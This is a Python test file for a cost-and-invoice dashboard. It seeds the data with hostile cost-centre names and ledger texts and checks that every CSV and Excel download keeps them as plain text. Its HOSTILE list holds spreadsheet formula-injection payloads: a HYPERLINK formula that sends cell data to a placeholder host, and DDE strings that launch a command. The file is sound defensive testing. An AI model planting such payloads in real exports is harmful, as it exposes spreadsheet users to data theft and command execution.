"""No download runs a formula: cost-centre names and ledger texts that start with = + - @ reach
the invoice basis (XLSX and CSV) and every table CSV of every page as text, amounts as numbers.

The snapshot is the dashboard fixture with every cost-centre name and every ledger text replaced
by a hostile one (as a city's file could deliver them). Every page is run as the data engineer
(who sees every page and table); each download button's file is taken as a user would get it.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
import streamlit as st
from openpyxl import load_workbook
from streamlit.elements.widgets.button import ButtonMixin

from pipelines.lib.exports import CSV_TEXT_MARK, FORMULA_TRIGGERS
from tests.dashboards.helpers import PAGES, logged_in, open_page

# One delivered text per trigger; each would run in Excel or LibreOffice if written as is.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Klicka här")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"^-?\d+(\.\d+)?(E-?\d+)?$")


def _hostile_case(column: str, index: str) -> str:
    """SQL: one of HOSTILE, chosen by the expression `index`, before the original value."""
    quoted = [h.replace("'", "''") for h in HOSTILE]
    whens = " ".join(f"when {i} then '{q}'" for i, q in enumerate(quoted))
    return f"(case ({index}) % 4 {whens} end) || ' ' || coalesce({column}, '')"


@pytest.fixture
def hostile_snapshot(fixture_snapshot: Path) -> dict[str, set[str]]:
    """The fixture snapshot with hostile cost-centre names and ledger texts; what was written."""
    writable = fixture_snapshot.with_name("writable.duckdb")
    shutil.copyfile(fixture_snapshot, writable)
    written: dict[str, set[str]] = {"cost_centre_name": set(), "text": set()}
    with duckdb.connect(str(writable)) as con:
        columns = con.execute(
            "select table_schema, table_name, column_name from information_schema.columns "
            "where column_name in ('cost_centre_name', 'text') and table_name in "
            "(select table_name from duckdb_tables())"
        ).fetchall()
        for schema, table, column in columns:
            # A cost centre's name is the same everywhere; its organisation's cost centres
            # (-0001, -0002, ...) get different kinds. Ledger texts vary by row.
            # The invoice lines name the consumer's cost centre.
            code = (
                next(
                    c
                    for (c,) in con.execute(
                        "select column_name from information_schema.columns where table_schema = ? "
                        "and table_name = ? and column_name in ('cost_centre_code', "
                        "'consumer_cost_centre_code') order by column_name desc",
                        [schema, table],
                    ).fetchall()
                )
                if column == "cost_centre_name"
                else None
            )
            index = f"ascii(right({code}, 1))" if code else "hash(text)"
            con.execute(f"update {schema}.{table} set {column} = {_hostile_case(column, index)}")
            written[column] |= {
                v
                for (v,) in con.execute(
                    f"select distinct {column} from {schema}.{table}"
                ).fetchall()
            }
    fixture_snapshot.chmod(0o644)
    shutil.move(writable, fixture_snapshot)
    assert written["cost_centre_name"] and written["text"]
    return written


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """Every download button drawn from now on: file name -> the bytes a click gives."""
    taken: dict[str, bytes] = {}
    original = ButtonMixin.download_button

    def take(self, label, data, file_name=None, *args, **kwargs):  # noqa: ANN001, ANN202
        content = data() if callable(data) else data
        taken[str(file_name)] = content if isinstance(content, bytes) else str(content).encode()
        return original(self, label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(ButtonMixin, "download_button", take)
    monkeypatch.setattr(st, "download_button", lambda *a, **k: take(st._main, *a, **k))
    return taken


def _csv_cells(content: bytes) -> tuple[list[str], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return rows[0], rows[1:]


def test_every_download_keeps_hostile_text_as_text(
    hostile_snapshot: dict[str, set[str]], downloads: dict[str, bytes]
) -> None:
    at = logged_in("data")
    for page in PAGES:
        open_page(at, page)
        assert not at.exception, (page, at.exception)
    csvs = {name: data for name, data in downloads.items() if name.endswith(".csv")}
    xlsxs = {name: data for name, data in downloads.items() if name.endswith(".xlsx")}
    [xlsx_name] = [name for name in xlsxs if name.startswith("fakturaunderlag_")]
    # Every table's Excel download too (the same tables as the CSVs).
    assert {n.removesuffix(".xlsx") for n in xlsxs} >= {n.removesuffix(".csv") for n in csvs}
    assert any(n.startswith("fakturaunderlag_") for n in csvs)
    assert any(n.startswith("verifikationer_") for n in csvs)
    assert len(csvs) >= 10

    delivered = hostile_snapshot["cost_centre_name"] | hostile_snapshot["text"]
    seen_hostile: set[str] = set()
    for name, content in csvs.items():
        header, rows = _csv_cells(content)
        for row in rows:
            for column, cell in zip(header, row, strict=True):
                if cell.startswith(FORMULA_TRIGGERS):
                    # Only a plain number may start with '-' (or '+'): it is not a formula.
                    assert NUMBER.match(cell), (name, column, cell)
                if cell.startswith(CSV_TEXT_MARK) and cell[1:] in delivered:
                    seen_hostile.add(cell[1:])
                assert cell not in delivered, (name, column, cell)  # never unmarked
                if column.endswith("_sek") and cell:
                    Decimal(cell)  # amounts stay numbers
    # The texts as delivered follow the mark: names and ledger texts of all four kinds.
    assert {h[0] for h in seen_hostile} == {"=", "+", "-", "@"}, seen_hostile
    assert seen_hostile & hostile_snapshot["cost_centre_name"]
    assert seen_hostile & hostile_snapshot["text"]

    # Every table workbook: no formula anywhere, a delivered text that would run is text with
    # Excel's quote prefix, amounts are numbers.
    hostile_in_tables: set[str] = set()
    for name, content in xlsxs.items():
        for sheet in load_workbook(io.BytesIO(content)).worksheets:
            for row in sheet.iter_rows(min_row=2):
                for cell in row:
                    assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
                        hostile_in_tables.add(cell.value)
    assert hostile_in_tables & hostile_snapshot["cost_centre_name"]
    assert hostile_in_tables & hostile_snapshot["text"]

    workbook = load_workbook(io.BytesIO(downloads[xlsx_name]))
    names_in_xlsx: set[str] = set()
    amounts = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (
                        sheet.title,
                        cell.coordinate,
                    )
                    names_in_xlsx.add(cell.value)
                if isinstance(cell.value, float | int) and cell.number_format == "#,##0.00":
                    amounts += 1
    # The names read exactly as delivered (no mark in the cell's text), amounts are numbers.
    assert names_in_xlsx and names_in_xlsx <= hostile_snapshot["cost_centre_name"]
    assert len({n[0] for n in names_in_xlsx}) >= 3
    assert amounts > 10
